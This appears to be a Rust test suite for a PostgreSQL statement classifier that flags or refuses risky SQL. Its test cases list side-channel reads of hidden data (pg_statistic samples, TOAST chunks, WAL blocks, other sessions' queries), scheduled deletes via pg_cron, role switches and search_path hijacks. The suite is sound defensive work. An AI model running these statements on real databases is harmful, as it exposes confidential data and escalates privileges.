    #[test]
    fn nesting_at_the_parsers_own_limit_fits_a_runtime_thread() {
        let d = 60;
        let nested = [
            format!("{}SELECT 1{}", "(".repeat(d), ")".repeat(d)),
            format!("SELECT {}1{}", "(".repeat(d), ")".repeat(d)),
            format!("SELECT * FROM {}t{}", "(".repeat(d), ")".repeat(d)),
            format!("SELECT {}1{}", "(SELECT ".repeat(d), ")".repeat(d)),
            format!("SELECT {}1", "- ".repeat(d)),
            format!("SELECT {}1{}", "ARRAY[".repeat(d), "]".repeat(d)),
            format!("SELECT {}1{}", "f(".repeat(d), ")".repeat(d)),
            format!(
                "SELECT * FROM {}t{}",
                "(SELECT * FROM ".repeat(d),
                ") s".repeat(d)
            ),
            format!(
                "SELECT {}1{}",
                "CASE WHEN true THEN ".repeat(d),
                " END".repeat(d)
            ),
            format!(
                "SELECT * FROM {}t{}",
                "(t JOIN ".repeat(d),
                " ON true)".repeat(d)
            ),
            format!(
                "SELECT * FROM {}t{}",
                "(t JOIN ".repeat(20),
                " ON true)".repeat(20)
            ),
        ];
        for sql in nested {
            // Either is fine; an overflow would end the test process.
            let _ = classify_on_a_worker_stack(sql);
        }
        let twenty_joins = format!(
            "SELECT * FROM {}t{}",
            "(t JOIN ".repeat(20),
            " ON true)".repeat(20)
        );
        assert!(classify_on_a_worker_stack(twenty_joins).is_ok());
    }

    /// Names under which a statement could run a function of the
    /// database's own unseen: attribute notation, a field of a row value,
    /// a built-in's name called unqualified; not a qualified call (known
    /// or unknown by its schema) nor a plain column.
    #[test]
    fn names_that_may_be_calls_are_collected() {
        assert_eq!(
            one("SELECT o.customer_email, o.id FROM orders o").may_call_by_name,
            set(&["customer_email", "id"])
        );
        assert_eq!(
            one("SELECT (o).customer_email FROM orders o").may_call_by_name,
            set(&["customer_email"])
        );
        assert_eq!(
            one("SELECT lower(o) FROM orders o").may_call_by_name,
            set(&["lower"])
        );
        assert_eq!(
            one("SELECT pg_catalog.lower(name), id FROM orders").may_call_by_name,
            set(&[])
        );
        // Calls the parser reads as syntax of their own.
        assert_eq!(
            one("SELECT ceil(n), substring(a, 2) FROM notes n").may_call_by_name,
            set(&["ceil", "substr", "substring"])
        );
        assert!(one("ALTER FUNCTION f(int) RENAME TO lower").defines_routine);
        assert!(one("CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN 1").defines_routine);
        assert!(!one("SELECT 1").defines_routine);
    }

    /// An identifier longer than PostgreSQL keeps names what PostgreSQL
    /// reads: the name cut to 63 bytes, at a character boundary.
    #[test]
    fn long_identifiers_are_cut_as_postgresql_cuts_them() {
        let table = "t".repeat(63);
        let op = one(&format!("SELECT * FROM public.\"{table}x\""));
        assert_eq!(op.reads, set(&[&format!("public.{table}")]));
        let op = one(&format!("SELECT * FROM {}xyz", table.to_uppercase()));
        assert_eq!(op.reads, set(&[&format!("public.{table}")]));
        // A two-byte character across byte 63 is left out whole.
        let name = format!("{}é", "t".repeat(62));
        let op = one(&format!("SELECT * FROM \"{name}\""));
        assert_eq!(op.reads, set(&[&format!("public.{}", "t".repeat(62))]));
    }

    /// What hides the tables it reads is not understood: the sampled
    /// values of every table, a routine body in a string.
    #[test]
    fn statements_hiding_what_they_read_are_not_understood() {
        for sql in [
            "SELECT most_common_vals FROM pg_catalog.pg_stats WHERE tablename = 'secrets'",
            "SELECT * FROM pg_stats",
            "TABLE pg_catalog.pg_stats",
            "SELECT stavalues1::text FROM pg_statistic",
            "COPY pg_catalog.pg_statistic TO STDOUT",
            "SELECT stxdmcv FROM pg_statistic_ext_data",
            // TOAST tables: large values of other tables, pg_statistic's
            // (2619's) among them.
            "SELECT chunk_data FROM pg_toast.pg_toast_2619",
            "COPY (SELECT chunk_id, chunk_data FROM pg_toast.pg_toast_16390) TO STDOUT",
            "COPY pg_toast.pg_toast_16390 TO STDOUT",
            "SELECT * FROM pg_toast_temp_3.pg_toast_16500",
            "SELECT * FROM pg_logical_slot_peek_changes('s', NULL, NULL)",
            "SELECT block_data FROM pg_get_wal_block_info('0/3000000', 'FFFFFFFF/FFFFFFFF')",
            "SELECT * FROM pg_get_wal_records_info('0/3000000', '0/4000000')",
            "SELECT cron.schedule('0 * * * *', 'DELETE FROM orders')",
            "SELECT mydb.cron.schedule('* * * * *', 'DELETE FROM orders')",
            "SELECT cron.alter_job(1, NULL, 'DELETE FROM orders')",
            // Other sessions' statements, other identities' among them.
            "SELECT query FROM pg_stat_activity",
            "SELECT query FROM pg_catalog.pg_stat_activity WHERE pid <> pg_backend_pid()",
            "SELECT * FROM pg_stat_get_activity(NULL)",
            "SELECT query FROM public.pg_stat_statements",
            "SELECT query FROM monitoring.pg_stat_statements(true)",
            "SELECT pg_stat_get_backend_activity(s) FROM pg_stat_get_backend_idset() s",
            "SELECT query FROM pg_stat_monitor",
            "SELECT query FROM pg_stat_monitor_internal(true)",
            "SELECT * FROM pg_qualstats",
        ] {
            assert!(classify(sql).is_err(), "{sql}: {:?}", classify(sql));
        }
        let op = one("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT count(*) FROM hr.secrets; END");
        assert_eq!(op.reads, set(&["hr.secrets"]));
        assert!(op.dangers.is_empty());
        let op = one("CREATE FUNCTION f() RETURNS SETOF text LANGUAGE sql AS $$SELECT secret FROM hr.secrets$$");
        assert!(op.dangers.contains(&Danger::OpaqueRoutine));
    }

    /// Turning standard_conforming_strings off, visibly, is flagged (and
    /// refused by policy whatever the grant): the server would read the
    /// next pipelined statement with it off before reporting the change.
    #[test]
    fn turning_standard_strings_off_is_flagged() {
        for (sql, off) in [
            ("SET standard_conforming_strings = off", true),
            ("SET standard_conforming_strings TO 'false'", true),
            ("SET SESSION standard_conforming_strings = 0", true),
            ("SET LOCAL standard_conforming_strings = 'n'", true),
            (
                "SELECT set_config('standard_conforming_strings', 'off', false)",
                true,
            ),
            (
                "SELECT set_config('standard_conforming_strings', v, false) FROM t",
                true,
            ),
            ("SET standard_conforming_strings = on", false),
            ("SET standard_conforming_strings TO 'yes'", false),
            ("SET standard_conforming_strings = true", false),
            ("SET standard_conforming_strings = 1", false),
            ("SET standard_conforming_strings TO DEFAULT", false),
            ("RESET standard_conforming_strings", false),
            (
                "SELECT set_config('standard_conforming_strings', 'on', false)",
                false,
            ),
            ("SET application_name = 'off'", false),
        ] {
            assert_eq!(one(sql).turns_off_standard_strings, off, "{sql}");
        }
    }

    /// What moves a name onto other data is flagged (a masked caller may
    /// not run it), or not understood at all; what leaves names alone is
    /// not flagged.
    #[test]
    fn statements_that_move_names_are_flagged() {
        for sql in [
            "ALTER SCHEMA hr RENAME TO hx",
            "ALTER TABLE hr.people RENAME TO staff",
            "ALTER TABLE customers RENAME COLUMN email TO contact",
            "ALTER VIEW order_summary RENAME TO s",
            "CREATE OR REPLACE VIEW order_summary AS SELECT email AS note FROM customers",
            "CREATE OR REPLACE RULE \"_RETURN\" AS ON SELECT TO order_summary DO INSTEAD SELECT email AS note FROM customers",
            "SET search_path = hr",
            "SET search_path TO hr, public",
            "SET LOCAL search_path = hr",
            "SET ROLE postgres",
            "SET SESSION AUTHORIZATION postgres",
            "ALTER INDEX hr.people RENAME TO staff",
            "SELECT set_config('search_path', 'hr', false)",
            "SELECT set_config('role', 'postgres', false)",
            "SELECT set_config(current_setting('x.y'), 'hr', false)",
            "ALTER TABLE customers INHERIT scratch",
            "ALTER TABLE p ATTACH PARTITION customers FOR VALUES IN (1)",
        ] {
            assert!(one(sql).moves_names, "{sql}");
        }
        // Not understood by the parser: refused unless a grant allows
        // unparsed text, and for a masked caller whatever it says.
        for sql in [
            "ALTER SCHEMA hr OWNER TO someone",
            "ALTER TABLE customers SET SCHEMA archive",
        ] {
            let refused_or_flagged =
                classify(sql).map_or(true, |ops| ops.iter().any(|op| op.moves_names));
            assert!(refused_or_flagged, "{sql}");
        }
        for sql in [
            "SELECT 1",
            "ALTER TABLE customers ADD COLUMN note text",
            "CREATE VIEW v AS SELECT 1",
            "SET application_name = 'x'",
            "SET TIME ZONE 'UTC'",
            "SELECT set_config('application_name', 'x', false)",
        ] {
            assert!(!one(sql).moves_names, "{sql}");
        }
    }

    /// FETCH and EXECUTE name the portal or statement they run, as the
    /// server looks it up (unquoted names folded).
    #[test]
    fn fetch_and_execute_name_what_they_run() {
        use RunByName::{Portal, Statement};
        for (sql, runs) in [
            ("FETCH ALL FROM p", vec![Portal("p".into())]),
            ("FETCH NEXT FROM \"P\"", vec![Portal("P".into())]),
            ("EXECUTE S_1(1)", vec![Statement("s_1".into())]),
            (
                "EXPLAIN ANALYZE EXECUTE \"S_1\"",
                vec![Statement("S_1".into())],
            ),
            ("SELECT 1", vec![]),
        ] {
            assert_eq!(one(sql).runs_by_name, runs, "{sql}");
        }
    }

    /// An UPDATE of pg_settings is set_config by another name.
    #[test]
    fn updating_pg_settings_is_set_config() {
        for sql in [
            "UPDATE pg_catalog.pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
            "UPDATE pg_settings SET setting = 'hr' WHERE name = 'search_path'",
        ] {
            let op = one(sql);
            assert!(op.dangers.contains(&Danger::FileOrProgramFunction), "{sql}");
            assert!(op.changes_text_encoding, "{sql}");
            assert!(op.calls_functions, "{sql}");
        }
    }

    /// A masked caller's computed columns are suspect only when the
    /// statement calls a function that could return a table's values.
    #[test]
    fn unknown_functions_are_told_from_built_ins() {
        for (sql, unknown) in [
            ("SELECT version()", false),
            ("SELECT pg_catalog.version(), current_schema()", false),
            ("SELECT nextval('s')", false),
            (
                "SELECT format_type(atttypid, atttypmod) FROM pg_catalog.pg_attribute",
                false,
            ),
            ("SELECT email_of(1)", true),
            ("SELECT app.email_of(1)", true),
            (r#"SELECT "Version"()"#, true),
            ("SELECT * FROM customer_by_id(1)", true),
        ] {
            assert_eq!(one(sql).calls_unknown_functions, unknown, "{sql}");
        }
    }
}
